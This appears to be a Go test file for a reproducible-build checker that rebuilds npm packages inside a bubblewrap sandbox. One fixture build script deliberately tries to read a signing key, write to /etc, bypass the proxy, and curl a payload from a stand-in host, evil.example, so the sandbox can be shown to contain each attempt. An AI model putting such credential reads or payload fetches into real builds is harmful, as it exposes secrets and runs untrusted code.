package cli

import (
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"github.com/vouch-dev/vouch/internal/verdict"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/vouch-dev/vouch/internal/egress"
	"github.com/vouch-dev/vouch/internal/registry/registrytest"
	"github.com/vouch-dev/vouch/internal/sandbox"
)

func TestMain(m *testing.M) {
	// The unprivileged sandbox re-executes this binary as its network forwarder.
	if egress.ForwarderRequested() {
		os.Exit(egress.ForwarderMain())
	}
	os.Exit(m.Run())
}

// TestSandboxedRebuild runs a build that installs a dependency from the (fake) registry and
// also misbehaves: it reads the signing key, connects around the proxy, and fetches from a
// host that is not a registry. The rebuild must still reproduce, with every registry fetch
// in the network log and each misbehaviour contained and reported.
func TestSandboxedRebuild(t *testing.T) {
	if err := sandbox.BwrapAvailable(); err != nil {
		t.Skipf("bubblewrap sandbox unavailable on this host (scripts/setup.sh installs it; namespaces must be allowed): %v", err)
	}
	f := newFixture(t)
	dep := f.reg.Publish(registrytest.NPMTarball(t, map[string]string{
		"package.json": `{"name": "dep-fixture", "version": "1.0.0", "main": "index.js"}`,
		"index.js":     "module.exports = function shout(s) { return s.toUpperCase(); };\n",
	}))
	// The signing key must exist before the build so the build can try to read it.
	if code, _, errb := f.vouch("keygen"); code != 0 {
		t.Fatalf("keygen: %s", errb)
	}
	keyPath := f.home + "/keys/signing-key.pem"
	regHostPort := strings.TrimPrefix(f.reg.URL(), "http://")
	build := `const fs = require('fs');
const { execSync } = require('child_process');
const net = require('net');
let key = 'hidden';
try { fs.readFileSync('` + keyPath + `'); key = 'VISIBLE'; } catch (e) {}
console.log('key:' + key);
let escape = 'refused';
try { fs.writeFileSync('/etc/vouch-escape', 'x'); escape = 'WRITTEN'; } catch (e) {}
console.log('write-outside:' + escape);
let code = execSync('curl -s -o /dev/null -w "%{http_code}" http://evil.example/payload || true').toString();
console.log('evil:' + code);
const shout = require('dep-fixture');
fs.mkdirSync('dist', { recursive: true });
fs.writeFileSync('dist/index.js', 'module.exports = ' + JSON.stringify(shout('built')) + ';\n');
const s = net.connect({ host: '127.0.0.1', port: ` + regHostPort[strings.LastIndex(regHostPort, ":")+1:] + ` });
s.on('connect', () => { console.log('direct:CONNECTED'); s.destroy(); });
s.on('error', () => console.log('direct:refused'));
`
	files := map[string]string{
		"package.json": `{
  "name": "sandboxed-fixture",
  "version": "1.0.0",
  "main": "dist/index.js",
  "files": ["dist"],
  "scripts": {"prepublishOnly": "node build.js"},
  "dependencies": {"dep-fixture": "^1.0.0"},
  "repository": "fixture/sandboxed"
}
`,
		"build.js":   build,
		".gitignore": "node_modules/\ndist/\npackage-lock.json\n",
	}
	dir, _ := f.repo("sandboxed", files, "v1.0.0")
	// Upstream: what the maintainer published (built on their machine).
	if err := os.MkdirAll(dir+"/dist", 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dir+"/dist/index.js", []byte("module.exports = \"BUILT\";\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	f.reg.Publish(f.npmPack(dir))

	code, out, errb := f.vouch("rebuild", "pkg:npm/sandboxed-fixture@1.0.0", "--json", "--sandbox", "bwrap")
	res := decodeResult(t, out, errb)
	if code != 0 || !res.Verdict.Success() {
		log, _ := os.ReadFile(res.BuildLog)
		t.Fatalf("exit %d verdict %s %s: %s\n%s", code, res.Verdict, res.Reason, res.Message, log)
	}
	if res.Sandbox != "bwrap" {
		t.Errorf("sandbox %q", res.Sandbox)
	}
	log, err := os.ReadFile(res.BuildLog)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"key:hidden", "write-outside:refused", "evil:403", "direct:refused"} {
		if !strings.Contains(string(log), want) {
			t.Errorf("build log lacks %q:\n%s", want, log)
		}
	}
	if _, err := os.Stat("/etc/vouch-escape"); err == nil {
		t.Errorf("the build wrote outside its work directory")
	}
	var sawDep bool
	sum := sha256.Sum256(dep.Tarball)
	for _, r := range res.Network {
		if strings.HasSuffix(r.URL, "/dep-fixture/-/dep-fixture-1.0.0.tgz") {
			sawDep = r.Status == 200 && r.SHA256 == hex.EncodeToString(sum[:])
		}
	}
	if !sawDep {
		t.Errorf("network log lacks the dependency tarball with its digest: %+v", res.Network)
	}
	if !containsPrefix(res.Findings, "hidden remote dependency: evil.example") {
		t.Errorf("findings %q do not name the non-registry fetch", res.Findings)
	}
}

func containsPrefix(s []string, p string) bool {
	for _, v := range s {
		if strings.HasPrefix(v, p) {
			return true
		}
	}
	return false
}

// TestSandboxedTimeout: a build that runs past the definition's timeout is killed with its
// whole process tree and reported as build_failed/timeout, and the failure is attested.
func TestSandboxedTimeout(t *testing.T) {
	if err := sandbox.BwrapAvailable(); err != nil {
		t.Skipf("bubblewrap sandbox unavailable on this host: %v", err)
	}
	f := newFixture(t)
	files := map[string]string{
		"package.json": `{"name": "slow-fixture", "version": "1.0.0", "files": ["dist"], "scripts": {"prepublishOnly": "node -e \"setInterval(() => {}, 1000)\" & sleep 600"}, "repository": "fixture/slow"}` + "\n",
		"dist/a.js":    "1;\n",
	}
	dir, _ := f.repo("slow", files, "v1.0.0")
	f.reg.Publish(repackAdd(t, f.npmPack(dir), "package/dist/generated.js", "2;\n"))
	code, out, errb := f.vouch("infer", "pkg:npm/slow-fixture@1.0.0")
	if code != 0 {
		t.Fatalf("infer: %s", errb)
	}
	def := strings.Replace(out, "timeout: 20m0s", "timeout: 3s", 1)
	if def == out {
		t.Fatalf("inferred definition has no 20m timeout to edit:\n%s", out)
	}
	p := f.root + "/slow.yaml"
	if err := os.WriteFile(p, []byte(def), 0o644); err != nil {
		t.Fatal(err)
	}
	code, out, errb = f.vouch("rebuild", "pkg:npm/slow-fixture@1.0.0", "--json", "--sandbox", "bwrap", "--definition", p)
	res := decodeResult(t, out, errb)
	if code != 3 || res.Verdict != "build_failed" || res.Reason != "timeout" {
		t.Fatalf("exit %d verdict %s reason %s, want 3 build_failed timeout: %s", code, res.Verdict, res.Reason, res.Message)
	}
	if res.Attestation == "" {
		t.Errorf("timeout not attested")
	}
	if res.TimingsMS.Build > 60_000 {
		t.Errorf("build phase took %d ms: the timeout did not stop it", res.TimingsMS.Build)
	}
}

// A build that stamps the year (a copyright banner) from a release made in 2016: in the
// bwrap sandbox its scripts see the release commit's time, and the rebuild reproduces.
func TestBuildClockIsTheReleaseCommits(t *testing.T) {
	if err := sandbox.BwrapAvailable(); err != nil {
		t.Skipf("bubblewrap sandbox unavailable on this host (scripts/setup.sh installs it; namespaces must be allowed): %v", err)
	}
	if sandbox.FakeTimeLib() == "" {
		t.Skip("libfaketime is not installed (scripts/setup.sh installs it)")
	}
	f := newFixture(t)
	t.Setenv("GIT_COMMITTER_DATE", "2016-02-10T12:00:00Z")
	t.Setenv("GIT_AUTHOR_DATE", "2016-02-10T12:00:00Z")
	files := map[string]string{
		"package.json": `{"name": "banner-fixture", "version": "1.16.1", "files": ["dist"], "scripts": {"prepublishOnly": "node build.js"}, "repository": "fixture/banner"}` + "\n",
		"build.js":     "require('fs').mkdirSync('dist', {recursive: true});\nrequire('fs').writeFileSync('dist/banner.js', '/* (C) ' + new Date().getFullYear() + ' ' + process.env.SOURCE_DATE_EPOCH + ' */\\n');\n",
		".gitignore":   "dist/\n",
	}
	dir, _ := f.repo("banner", files, "v1.16.1")
	writeFiles(t, filepath.Join(dir, "dist"), map[string]string{"banner.js": "/* (C) 2016 1455105600 */\n"})
	f.reg.Publish(f.npmPack(dir))
	code, out, errb := f.vouch("rebuild", "pkg:npm/banner-fixture@1.16.1", "--json", "--sandbox", "bwrap")
	var res verdict.Result
	if err := json.Unmarshal([]byte(out), &res); err != nil {
		t.Fatalf("exit %d: %v\n%s", code, err, errb)
	}
	if code != 0 || !res.Verdict.Success() {
		log, _ := os.ReadFile(res.BuildLog)
		t.Fatalf("exit %d verdict %s (%s): %s\nlog: %s", code, res.Verdict, res.Reason, res.Message, log)
	}
	// The none sandbox cannot set the clock: the year differs, and the log says why.
	code, out, _ = f.vouch("rebuild", "pkg:npm/banner-fixture@1.16.1", "--json", "--sandbox", "none")
	res = verdict.Result{}
	if err := json.Unmarshal([]byte(out), &res); err != nil || code != 1 || res.Verdict != verdict.Mismatch {
		t.Errorf("--sandbox none: exit %d verdict %s, want a mismatch (%v)", code, res.Verdict, err)
	}
	if log, err := os.ReadFile(res.BuildLog); err != nil || !strings.Contains(string(log), "the build sees the real clock") {
		t.Errorf("the none build log does not say the clock is real (%v)", err)
	}
}
